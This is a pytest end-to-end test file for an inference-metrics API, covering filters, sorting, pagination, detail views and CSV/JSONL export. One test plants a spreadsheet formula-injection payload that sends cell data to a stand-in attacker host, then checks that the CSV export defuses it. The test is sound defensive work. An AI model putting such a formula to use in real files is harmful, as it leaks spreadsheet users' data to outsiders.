"""The inference API against a running service holding known inferences sent through OTLP: every
filter, sort and pagination path, total counts, detail, export."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import httpx
import orjson
import pytest

from tests.api_helpers import (
    LONG_PROMPT,
    MINUTE_NS,
    QUOTED_PROMPT,
    Sent,
    api,
    iso,
    list_ids,
    list_page,
    seed,
)
from tests.conftest import Service, wait_for
from tests.otlp_helpers import json_span, traces_json

pytestmark = pytest.mark.e2e

SEED_CSV_COLUMNS = [
    "inference_id",
    "timestamp",
    "model_name",
    "prompt_preview",
    "response_preview",
    "input_tokens",
    "output_tokens",
    "response_time_ms",
    "cost",
    "is_success",
]


@pytest.fixture(scope="module")
def data(service: Service) -> tuple[list[Sent], str]:
    mine, _, from_date = seed(service)
    return mine, from_date


def newest_first(sent: list[Sent]) -> list[str]:
    return [s.inference_id for s in sorted(sent, key=lambda s: s.start_ns, reverse=True)]


def test_list_defaults_newest_first_with_seed_columns(service: Service, data: tuple[list[Sent], str]) -> None:
    sent, from_date = data
    r = list_page(service, service.key, {"from_date": from_date})
    assert r.status_code == 200, r.text
    page = r.json()
    assert page["total_count"] == 12 and page["limit"] == 50 and page["offset"] == 0 and not page["has_more"]
    assert [i["inference_id"] for i in page["items"]] == newest_first(sent)
    by_id = {s.inference_id: s for s in sent}
    for item in page["items"]:
        s = by_id[item["inference_id"]]
        assert item["timestamp"] == iso(s.start_ns)
        assert (item["model_name"], item["provider"]) == (s.model, s.provider)
        assert item["prompt_preview"] == s.prompt[:100]
        assert item["response_preview"] == s.response
        assert (item["input_tokens"], item["output_tokens"], item["total_tokens"]) == (
            s.input_tokens,
            s.output_tokens,
            s.total_tokens,
        )
        assert item["response_time_ms"] == pytest.approx(s.latency_ms)
        assert item["ttft_ms"] == (pytest.approx(s.ttft_ms) if s.ttft_ms is not None else None)
        assert item["is_success"] is s.success
        assert item["error_type"] == ("" if s.success else "RateLimitError")
        assert (item["cost"] is None) == (s.model == "house-llm-1")
        assert item["price_status"] == ("unknown_model" if s.model == "house-llm-1" else "priced")
        assert item["provided_cost"] is None  # these spans carry no cost of their own
    long_item = next(i for i in page["items"] if i["prompt_preview"].startswith("Long"))
    assert long_item["prompt_preview"] == LONG_PROMPT[:100] and len(long_item["prompt_preview"]) == 100


FILTERS: list[tuple[str, dict[str, Any], Callable[[Sent], bool]]] = [
    ("failed", {"is_success": False}, lambda s: not s.success),
    ("succeeded", {"is_success": True}, lambda s: s.success),
    ("min_tokens", {"min_tokens": 402}, lambda s: s.total_tokens >= 402),
    ("max_tokens", {"max_tokens": 282}, lambda s: s.total_tokens <= 282),
    ("token range", {"min_tokens": 214, "max_tokens": 418}, lambda s: 214 <= s.total_tokens <= 418),
    ("max_latency_ms", {"max_latency_ms": 500}, lambda s: s.latency_ms <= 500),
    ("model", {"model": "gpt-4o-mini"}, lambda s: s.model == "gpt-4o-mini"),
    ("provider", {"provider": "anthropic"}, lambda s: s.provider == "anthropic"),
    ("user", {"user": "u_bob"}, lambda s: s.user == "u_bob"),
    ("session", {"session": "sess_2"}, lambda s: s.session == "sess_2"),
    ("tenant", {"tenant": "globex"}, lambda s: s.tenant == "globex"),
    ("tag", {"tags": {"feature": "summarize"}}, lambda s: s.feature == "summarize"),
    ("tag pair absent", {"tags": {"feature": "chat", "team": "x"}}, lambda s: False),
    # A missing tag reads as "", as a breakdown by the tag groups it: "" asks for the calls without it.
    ("tag key absent, empty value", {"tags": {"team": ""}}, lambda s: True),
    ("no user", {"user": ""}, lambda s: s.user == ""),
    ("search prompt, any case", {"search": "TOPIC-3 please"}, lambda s: s.index == 3),
    ("search response", {"search": "answer 11:"}, lambda s: s.index == 11),
    ("search quotes and backslash", {"search": 'said "quote" and a back\\slash'}, lambda s: s.index == 5),
    ("search non-ASCII, any case", {"search": "GRÜßE"}, lambda s: s.index == 5),
    ("search no match", {"search": "no such text anywhere"}, lambda s: False),
    (
        "combined",
        {"provider": "openai", "tenant": "acme", "is_success": True, "tags": {"feature": "chat"}},
        lambda s: s.provider == "openai" and s.tenant == "acme" and s.success and s.feature == "chat",
    ),
    ("own project_id", {"project_id": "default"}, lambda s: True),
]


@pytest.mark.parametrize(("name", "body", "expected"), FILTERS, ids=[f[0] for f in FILTERS])
def test_filters(
    service: Service,
    data: tuple[list[Sent], str],
    name: str,
    body: dict[str, Any],
    expected: Callable[[Sent], bool],
) -> None:
    sent, from_date = data
    r = list_page(service, service.key, {"from_date": from_date, **body})
    assert r.status_code == 200, r.text
    want = newest_first([s for s in sent if expected(s)])
    assert [i["inference_id"] for i in r.json()["items"]] == want
    assert r.json()["total_count"] == len(want)


def test_date_range_is_inclusive(service: Service, data: tuple[list[Sent], str]) -> None:
    sent, _ = data
    start = sent[3].start_ns
    body = {"from_date": iso(start), "to_date": iso(start + 3 * MINUTE_NS)}
    assert list_ids(service, service.key, body) == newest_first(sent[3:7])
    # A zone other than UTC means the same instant.
    body = {"from_date": iso(start).replace("Z", "+00:00")}
    assert list_ids(service, service.key, body) == newest_first(sent[3:])


@pytest.mark.parametrize(
    ("sort_by", "key"),
    [
        ("timestamp", lambda s: s.start_ns),
        ("tokens", lambda s: s.total_tokens),
        ("latency", lambda s: s.latency_ms),
    ],
)
@pytest.mark.parametrize("sort_order", ["asc", "desc"])
def test_sorting(
    service: Service, data: tuple[list[Sent], str], sort_by: str, key: Callable[[Sent], Any], sort_order: str
) -> None:
    sent, from_date = data
    got = list_ids(
        service, service.key, {"from_date": from_date, "sort_by": sort_by, "sort_order": sort_order}
    )
    want = [s.inference_id for s in sorted(sent, key=key, reverse=sort_order == "desc")]
    assert got == want


@pytest.mark.parametrize("sort_order", ["asc", "desc"])
def test_sorting_by_cost_puts_unpriced_last(
    service: Service, data: tuple[list[Sent], str], sort_order: str
) -> None:
    _, from_date = data
    r = list_page(service, service.key, {"from_date": from_date, "sort_by": "cost", "sort_order": sort_order})
    items = r.json()["items"]
    costs = [i["cost"] for i in items]
    priced = [c for c in costs if c is not None]
    assert len(priced) == 8 and costs[8:] == [None] * 4
    assert priced == sorted(priced, reverse=sort_order == "desc") and len(set(priced)) > 1
    unpriced_ids = [i["inference_id"] for i in items[8:]]
    assert unpriced_ids == sorted(unpriced_ids, reverse=sort_order == "desc")  # ties broken by id


def test_pages_cover_the_list_exactly_once(service: Service, data: tuple[list[Sent], str]) -> None:
    sent, from_date = data
    seen: list[str] = []
    for offset in (0, 5, 10):
        body = {"from_date": from_date, "sort_by": "latency", "offset": offset, "limit": 5}
        page = list_page(service, service.key, body).json()
        assert page["total_count"] == 12 and page["offset"] == offset and page["limit"] == 5
        assert page["has_more"] is (offset < 10)
        seen += [i["inference_id"] for i in page["items"]]
    assert seen == [s.inference_id for s in sorted(sent, key=lambda s: s.latency_ms, reverse=True)]
    beyond = list_page(service, service.key, {"from_date": from_date, "offset": 50}).json()
    assert beyond["items"] == [] and beyond["total_count"] == 12 and not beyond["has_more"]


@pytest.mark.parametrize(
    ("body", "field", "says"),
    [
        ({}, "from_date", "Field required"),
        ({"from_date": "yesterday"}, "from_date", "datetime"),
        ({"to_date": "2024-01-01T00:00:00Z"}, "to_date", "before from_date"),
        ({"limit": 1001}, "limit", "less than or equal to 1000"),
        ({"limit": 0}, "limit", "greater than or equal to 1"),
        ({"offset": -1}, "offset", "greater than or equal to 0"),
        ({"sort_by": "name"}, "sort_by", "'timestamp', 'tokens', 'latency' or 'cost'"),
        ({"sort_order": "up"}, "sort_order", "'asc' or 'desc'"),
        ({"min_tokens": 10, "max_tokens": 5}, "max_tokens", "below min_tokens"),
        ({"max_latency_ms": -1}, "max_latency_ms", "greater than or equal to 0"),
        ({"is_success": "maybe"}, "is_success", "boolean"),
        ({"user": 5}, "user", "string"),
        ({"tags": {"feature": 3}}, "tags", "string"),
        ({"colour": "red"}, "colour", "Extra inputs are not permitted"),
    ],
)
def test_invalid_parameters_are_422_naming_the_field(
    service: Service, data: tuple[list[Sent], str], body: dict[str, Any], field: str, says: str
) -> None:
    defaults = {"from_date": "2024-06-01T00:00:00Z"} if "from_date" not in body and body else {}
    r = list_page(service, service.key, {**defaults, **body})
    assert r.status_code == 422, r.text
    errors = r.json()["detail"]
    assert any(field in e["loc"] and says in e["msg"] for e in errors), errors


def test_detail(service: Service, data: tuple[list[Sent], str]) -> None:
    sent, _ = data
    s = sent[5]  # house-llm-1 (unpriced), a system instruction, quotes and non-ASCII in the prompt
    r = api(service, "GET", f"/api/v1/metrics/inferences/{s.inference_id}", service.key)
    assert r.status_code == 200, r.text
    d = r.json()
    o = d["overview"]
    assert o["inference_id"] == s.inference_id and o["project_id"] == "default"
    assert len(o["trace_id"]) == 32 and len(o["span_id"]) == 16
    assert o["start_time"] == iso(s.start_ns)
    assert o["end_time"] == iso(s.start_ns + int(s.latency_ms * 1e6))
    assert (o["model"], o["provider"], o["operation"], o["endpoint"]) == (
        s.model,
        "openai",
        "chat",
        "api.openai.com",
    )
    assert o["source"]["service_name"] == "api-test-bot" and o["source"]["environment"] == "test"
    assert o["source"]["convention"] and o["source"]["instrumentation"] == "test"
    assert (o["user_id"], o["session_id"], o["tenant_id"]) == (s.user, s.session, s.tenant)
    assert o["is_success"] and o["span_name"] == f"chat {s.model}" and o["price_status"] == "unknown_model"
    assert [(m["role"], m["content"], m["part"]) for m in d["messages"]] == [
        ("system", "You are terse.", "prompt"),
        ("user", QUOTED_PROMPT, "prompt"),
        ("assistant", s.response, "response"),
    ]
    # Per-message counts are known only for a side with one message.
    assert [m["tokens"] for m in d["messages"]] == [None, None, s.output_tokens]
    p = d["performance"]
    assert p["latency_ms"] == pytest.approx(s.latency_ms) and p["ttft_ms"] is None
    assert p["tokens"]["input"] == s.input_tokens and p["tokens"]["total"] == s.total_tokens
    assert p["tokens_per_second"] == pytest.approx(s.output_tokens / (s.latency_ms / 1000))
    assert p["cost"] == {"input": None, "output": None, "total": None, "provided": None}
    assert p["cost_per_token"] is None
    assert [e["event"] for e in p["timeline"]] == ["request", "response_complete"]
    # Averages over the 24 hours up to this call: inferences 0-5, of which 2 and 5 are this model.
    c = p["comparison"]
    assert c["project"]["calls"] == 6 and c["model"]["calls"] == 2
    assert c["project"]["avg_latency_ms"] == pytest.approx(sum(x.latency_ms for x in sent[:6]) / 6)
    model_avg = (sent[2].latency_ms + s.latency_ms) / 2
    assert c["model"]["avg_latency_ms"] == pytest.approx(model_avg)
    assert c["model"]["latency_vs_avg_pct"] == pytest.approx((s.latency_ms - model_avg) / model_avg * 100)
    assert c["project"]["avg_ttft_ms"] == pytest.approx((40 + 42 + 44) / 3)  # calls 0, 2, 4
    assert c["window_to"] == iso(s.start_ns)
    raw = d["raw"]
    assert (
        raw["span_attributes"]["user.id"] == s.user
        and raw["resource_attributes"]["service.name"] == "api-test-bot"
    )
    assert raw["tags"] == {"feature": "summarize"}


def test_detail_of_a_priced_streaming_call(service: Service, data: tuple[list[Sent], str]) -> None:
    sent, _ = data
    s = sent[4]  # gpt-4o-mini, failed, with time to first token
    d = api(
        service,
        "GET",
        f"/api/v1/metrics/inferences/{s.inference_id}",
        service.key,
        params={"window_hours": 1},
    ).json()
    p = d["performance"]
    assert p["ttft_ms"] == pytest.approx(s.ttft_ms)
    assert [e["at_ms"] for e in p["timeline"]] == [0, pytest.approx(s.ttft_ms), pytest.approx(s.latency_ms)]
    assert p["cost"]["total"] == pytest.approx(p["cost"]["input"] + p["cost"]["output"])
    assert p["cost_per_token"] == pytest.approx(p["cost"]["total"] / s.total_tokens)
    assert [m["tokens"] for m in d["messages"]] == [s.input_tokens, s.output_tokens]
    assert d["overview"]["is_success"] is False and d["overview"]["error_type"] == "RateLimitError"
    # A one-hour window up to this call holds it and the four before it.
    assert d["performance"]["comparison"]["project"]["calls"] == 5


def test_detail_errors(service: Service, data: tuple[list[Sent], str]) -> None:
    r = api(service, "GET", "/api/v1/metrics/inferences/00000000-0000-5000-8000-000000000000", service.key)
    assert r.status_code == 404 and "no inference" in r.json()["detail"]
    r = api(service, "GET", "/api/v1/metrics/inferences/not-a-uuid", service.key)
    assert r.status_code == 422 and "inference_id" in r.json()["detail"][0]["loc"]
    r = api(
        service,
        "GET",
        f"/api/v1/metrics/inferences/{data[0][0].inference_id}",
        service.key,
        params={"window_hours": 0},
    )
    assert r.status_code == 422 and "window_hours" in r.json()["detail"][0]["loc"]


def _export(service: Service, fmt: str, body: dict[str, Any]) -> Any:
    r = api(
        service, "POST", "/api/v1/metrics/inferences/export", service.key, params={"format": fmt}, json=body
    )
    assert r.status_code == 200, r.text
    assert r.headers["content-disposition"] == f'attachment; filename="inferences-default.{fmt}"'
    return r


def _csv_value(column: str, item: dict[str, Any]) -> str:
    value = item[column]
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


@pytest.mark.parametrize(
    "filters",
    [
        {},
        {"provider": "openai", "sort_by": "cost", "sort_order": "asc"},
        {"tags": {"feature": "chat"}, "is_success": True, "sort_by": "tokens"},
        {"search": "topic", "max_latency_ms": 900},
    ],
    ids=["all", "provider-by-cost", "tag-success-by-tokens", "search-latency"],
)
def test_export_equals_the_list(
    service: Service, data: tuple[list[Sent], str], filters: dict[str, Any]
) -> None:
    _, from_date = data
    body = {"from_date": from_date, **filters}
    items = list_page(service, service.key, {**body, "limit": 1000}).json()["items"]
    assert items

    jsonl = _export(service, "jsonl", body)
    assert jsonl.headers["content-type"].startswith("application/x-ndjson")
    assert [orjson.loads(line) for line in jsonl.text.splitlines()] == items

    exported = _export(service, "csv", body)
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(exported.text)))
    assert rows[0] == SEED_CSV_COLUMNS
    assert len(rows) == len(items) + 1
    for row, item in zip(rows[1:], items, strict=True):
        for column, value in zip(SEED_CSV_COLUMNS, row, strict=True):
            if column in ("response_time_ms", "cost") and value:
                assert float(value) == pytest.approx(item[column]), column
            else:
                assert value == _csv_value(column, item), column


def test_export_by_get_with_query_filters(service: Service, data: tuple[list[Sent], str]) -> None:
    sent, from_date = data
    params = [("from_date", from_date), ("format", "jsonl"), ("tag", "feature=chat"), ("tenant", "acme")]
    r = api(service, "GET", "/api/v1/metrics/inferences/export", service.key, params=params)
    assert r.status_code == 200, r.text
    want = newest_first([s for s in sent if s.feature == "chat" and s.tenant == "acme"])
    assert [orjson.loads(line)["inference_id"] for line in r.text.splitlines()] == want
    r = api(
        service,
        "GET",
        "/api/v1/metrics/inferences/export",
        service.key,
        params={"from_date": from_date, "limit": 2},
    )
    assert r.status_code == 200 and r.text.splitlines()[0].split(",")[0] == '"inference_id"'
    assert len(r.text.splitlines()) == 3


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"format": "xml"}, "format"),
        ({"tag": "no-equals-sign"}, "tag"),
        ({"to_date": "2000-01-01T00:00:00Z"}, "to_date"),
        ({"sort_by": "name"}, "sort_by"),
        ({"colour": "red"}, "colour"),
    ],
)
def test_export_rejects_bad_parameters(
    service: Service, data: tuple[list[Sent], str], params: dict[str, str], field: str
) -> None:
    r = api(
        service,
        "GET",
        "/api/v1/metrics/inferences/export",
        service.key,
        params={"from_date": data[1], **params},
    )
    assert r.status_code == 422, r.text
    assert any(field in e["loc"] for e in r.json()["detail"]), r.text


@pytest.mark.parametrize("field", ['"search"', '"user"', '"tags": {"feature"'])
def test_a_lone_surrogate_is_422_not_500(service: Service, data: tuple[list[Sent], str], field: str) -> None:
    """Valid JSON, yet no text: `\\ud800` has no UTF-8 form."""
    close = "}" if "tags" in field else ""
    body = f'{{"from_date": "{data[1]}", {field}: "\\ud800"{close}}}'
    r = api(
        service,
        "POST",
        "/api/v1/metrics/inferences/list",
        service.key,
        content=body,
        headers={"content-type": "application/json"},
    )
    assert r.status_code == 422, r.text
    assert "unicode" in r.json()["detail"][0]["msg"]


def test_the_csv_export_holds_no_cell_a_spreadsheet_would_run(
    service: Service, data: tuple[list[Sent], str]
) -> None:
    """A prompt starting with "=" (or + - @) is a formula to Excel and Sheets:
    `=HYPERLINK("http://…")` sends data away. The CSV cell starts with an apostrophe instead; the
    JSONL export keeps the text as it was."""
    _, from_date = data
    formula = '=HYPERLINK("http://attacker.example/?d="&A1,"click")'
    span = json_span(
        {
            "gen_ai.operation.name": "chat",
            "gen_ai.provider.name": "openai",
            "gen_ai.request.model": "gpt-4o-mini",
            "gen_ai.input.messages": orjson.dumps(
                [{"role": "user", "parts": [{"type": "text", "content": formula}]}]
            ).decode(),
        }
    )
    headers = {"x-api-key": service.key, "content-type": "application/json"}
    assert (
        httpx.post(f"{service.http_url}/v1/traces", content=traces_json([span]), headers=headers).status_code
        == 200
    )
    body = {"from_date": from_date, "search": "attacker.example"}
    assert wait_for(lambda: _export(service, "jsonl", body).text.strip())
    [line] = _export(service, "jsonl", body).text.splitlines()
    assert orjson.loads(line)["prompt_preview"] == formula[:100]
    rows = list(csv.reader(io.StringIO(_export(service, "csv", body).text)))
    assert rows[1][SEED_CSV_COLUMNS.index("prompt_preview")] == "'" + formula[:100]
